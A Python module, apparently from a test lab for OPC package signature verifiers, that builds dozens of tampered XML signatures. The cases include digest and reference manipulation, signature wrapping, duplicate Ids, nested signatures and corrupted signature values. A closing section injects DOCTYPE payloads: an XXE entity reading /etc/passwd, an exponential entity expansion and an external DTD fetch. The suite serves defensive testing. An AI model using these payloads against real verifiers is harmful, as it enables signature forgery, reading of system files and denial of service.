# SPDX-License-Identifier: MIT
"""Manipulations of the XML of a signature."""

import base64

from attack_list import EVIL, attack, on_signature, with_evil_file
from lab import change_signature, clone, element, find, signature_parts
from lxml import etree
from opc_package import Package, parse
from signer import Form, text64
from xml_signature import C14N, DIGESTS, DSIG, MORE, canonical, digest_of


def evil_reference():
    return element("Reference", None, [
        element("DigestMethod", Algorithm=DIGESTS["sha256"]),
        element("DigestValue", text64(digest_of("sha256", EVIL)))],
        URI="/files/evil.m?ContentType=text/plain")


def reference_to(root, part):
    return find(root, f"//d:Manifest/d:Reference[starts-with(@URI, '{part}?')]")


def refresh_object(root):
    """Makes the digest of the object in SignedInfo right again."""
    target = find(root, "d:Object[@Id='idPackageObject']")
    find(root, "d:SignedInfo/d:Reference/d:DigestValue").text = text64(
        digest_of("sha256", canonical(target)))


@on_signature
def a_reference_is_removed(lab, root):
    each = reference_to(root, "/files/a.m")
    each.getparent().remove(each)


@on_signature
def a_reference_is_removed_and_the_digest_fits(lab, root):
    a_reference = reference_to(root, "/files/a.m")
    a_reference.getparent().remove(a_reference)
    refresh_object(root)


@attack
def a_file_and_its_digest_are_changed(lab, package):
    package["/files/a.m"] = EVIL
    change_signature(package, lambda root: setattr(
        find(reference_to(root, "/files/a.m"), "d:DigestValue"), "text",
        text64(digest_of("sha256", EVIL))))


@attack
def a_file_its_digest_and_that_of_the_object_are_changed(lab, package):
    a_file_and_its_digest_are_changed(lab, package)
    change_signature(package, refresh_object)


@with_evil_file
def the_manifest_gets_a_reference(lab, root):
    find(root, "//d:Manifest").append(evil_reference())


@with_evil_file
def the_manifest_gets_a_reference_and_the_digest_fits(lab, root):
    find(root, "//d:Manifest").append(evil_reference())
    refresh_object(root)


@with_evil_file
def another_object_has_a_manifest(lab, root):
    root.append(element("Object", None, [element("Manifest", None, [evil_reference()])]))


@with_evil_file
def an_object_before_it_has_the_same_id(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)


@with_evil_file
def an_object_after_it_has_the_same_id(lab, root):
    evil = clone(find(root, "d:Object[@Id='idPackageObject']"))
    find(evil, "d:Manifest").append(evil_reference())
    root.append(evil)


@with_evil_file
def the_signed_object_is_wrapped_in_another(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    evil.attrib.pop("Id")
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)
    evil.append(target)


@with_evil_file
def the_signed_object_is_wrapped_and_its_id_taken(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)
    evil.append(element("Object", None, [target]))


@with_evil_file
def the_signed_object_is_moved_into_the_key_info(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    evil.set("Id", "idOther")
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)
    find(root, "d:KeyInfo").append(target)


@with_evil_file
def the_id_is_that_of_xml(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    evil.attrib.pop("Id")
    evil.set("{http://www.w3.org/XML/1998/namespace}id", "idPackageObject")
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)


@with_evil_file
def the_id_is_spelled_otherwise(lab, root):
    target = find(root, "d:Object[@Id='idPackageObject']")
    evil = clone(target)
    evil.attrib.pop("Id")
    evil.set("ID", "idPackageObject")
    evil.set("id", "idPackageObject")
    find(evil, "d:Manifest").append(evil_reference())
    target.addprevious(evil)


@with_evil_file
def a_second_manifest_is_in_the_object(lab, root):
    find(root, "d:Object").append(element("Manifest", None, [evil_reference()]))


@with_evil_file
def the_signature_is_wrapped_in_an_element(lab, root):
    wrapper = etree.Element("Evil", Id="idPackageObject")
    wrapper.append(root)
    return wrapper


@attack
def a_signature_of_eve_holds_that_of_ada(lab, package):
    """The outer one is Eve's; the certificate that is found first could be Ada's."""
    inner = parse(package[signature_parts(package)[0]])
    plain = lab.plain()
    plain["/files/evil.m"] = EVIL
    outer = lab.by_eve(Form(change_object=lambda each: each.append(clone(inner))), plain)
    return outer


@attack
def a_signature_of_ada_holds_that_of_eve(lab, package):
    package["/files/evil.m"] = EVIL
    eves = lab.by_eve(package=Package(package.bytes()))
    eve = parse(eves[signature_parts(eves)[1]])
    change_signature(package, lambda root: root.append(element("Object", None, [eve])))


@on_signature
def there_are_two_signed_infos(lab, root):
    info = find(root, "d:SignedInfo")
    evil = clone(info)
    find(evil, "d:Reference/d:DigestValue").text = text64(bytes(32))
    info.addprevious(evil)


@on_signature
def a_second_signed_info_follows(lab, root):
    info = find(root, "d:SignedInfo")
    evil = clone(info)
    find(evil, "d:Reference/d:DigestValue").text = text64(bytes(32))
    info.addnext(evil)


@on_signature
def there_are_two_signature_values(lab, root):
    value = find(root, "d:SignatureValue")
    value.addprevious(element("SignatureValue", text64(bytes(256))))


@on_signature
def the_signature_value_is_changed(lab, root):
    value = find(root, "d:SignatureValue")
    raw = bytearray(base64.b64decode(value.text))
    raw[10] ^= 4
    value.text = text64(raw)


@on_signature
def the_signature_value_is_empty(lab, root):
    find(root, "d:SignatureValue").text = ""


@on_signature
def the_signature_value_is_zero(lab, root):
    find(root, "d:SignatureValue").text = text64(bytes(256))


@on_signature
def the_signature_value_is_longer(lab, root):
    value = find(root, "d:SignatureValue")
    value.text = text64(base64.b64decode(value.text) + b"\0")


@on_signature
def the_signature_value_is_cut_off(lab, root):
    value = find(root, "d:SignatureValue")
    value.text = text64(base64.b64decode(value.text)[:-1])


@on_signature
def the_method_is_changed(lab, root):
    find(root, "//d:SignatureMethod").set("Algorithm", MORE + "rsa-sha512")


@on_signature
def the_method_is_sha1(lab, root):
    find(root, "//d:SignatureMethod").set("Algorithm", DSIG + "rsa-sha1")


@on_signature
def the_canonicalisation_is_changed(lab, root):
    find(root, "//d:CanonicalizationMethod").set("Algorithm", C14N + "#WithComments")


@on_signature
def the_reference_of_signed_info_is_removed(lab, root):
    each = find(root, "d:SignedInfo/d:Reference")
    each.getparent().remove(each)


@on_signature
def the_reference_leads_to_the_whole_document(lab, root):
    find(root, "d:SignedInfo/d:Reference").set("URI", "")


@on_signature
def the_reference_is_an_xpointer(lab, root):
    find(root, "d:SignedInfo/d:Reference").set("URI", "#xpointer(id('idPackageObject'))")


@on_signature
def the_time_is_changed(lab, root):
    for each in root.iter("{*}Value"):
        each.text = "2030-01-01T00:00:00Z"


@on_signature
def a_digest_holds_a_comment_instead_of_its_end(lab, root):
    value = find(reference_to(root, "/files/a.m"), "d:DigestValue")
    text, value.text = value.text, value.text[:20]
    value.append(etree.Comment(text[20:]))


@on_signature
def a_name_is_cut_by_an_escape(lab, root):
    each = reference_to(root, "/files/a.m")
    each.set("URI", each.get("URI").replace("/files/a.m", "/files/a.m%00"))


@on_signature
def the_manifest_has_another_namespace(lab, root):
    find(root, "//d:Manifest").tag = "{http://evil.example/}Manifest"


@on_signature
def the_object_has_another_namespace(lab, root):
    find(root, "d:Object").tag = "{http://evil.example/}Object"


# What the XML could do

def with_prologue(package, prologue, change=lambda text: text):
    part = signature_parts(package)[0]
    text = package[part].decode()
    start = text.index("?>") + 2 if text.startswith("<?xml") else 0
    package[part] = (text[:start] + prologue + change(text[start:])).encode()


@attack
def the_signature_has_a_document_type(lab, package):
    with_prologue(package, "<!DOCTYPE Signature>")


@attack
def the_document_type_declares_an_id(lab, package):
    with_prologue(package, "<!DOCTYPE Signature [<!ATTLIST Object Evil ID #IMPLIED>]>")


@attack
def the_document_type_declares_an_entity(lab, package):
    with_prologue(package, '<!DOCTYPE Signature [<!ENTITY e "x">]>')


@attack
def an_entity_reads_a_file(lab, package):
    with_prologue(package, '<!DOCTYPE Signature [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
                  lambda text: text.replace("</SignatureValue>", "&e;</SignatureValue>"))


@attack
def entities_grow(lab, package):
    entities = "".join(f'<!ENTITY e{i} "&e{i - 1};&e{i - 1};&e{i - 1};&e{i - 1};">'
                       for i in range(1, 20))
    with_prologue(package, f'<!DOCTYPE Signature [<!ENTITY e0 "xxxx">{entities}]>')


@attack
def the_document_type_is_outside(lab, package):
    with_prologue(package, '<!DOCTYPE Signature SYSTEM "http://127.0.0.1:9/evil.dtd">')
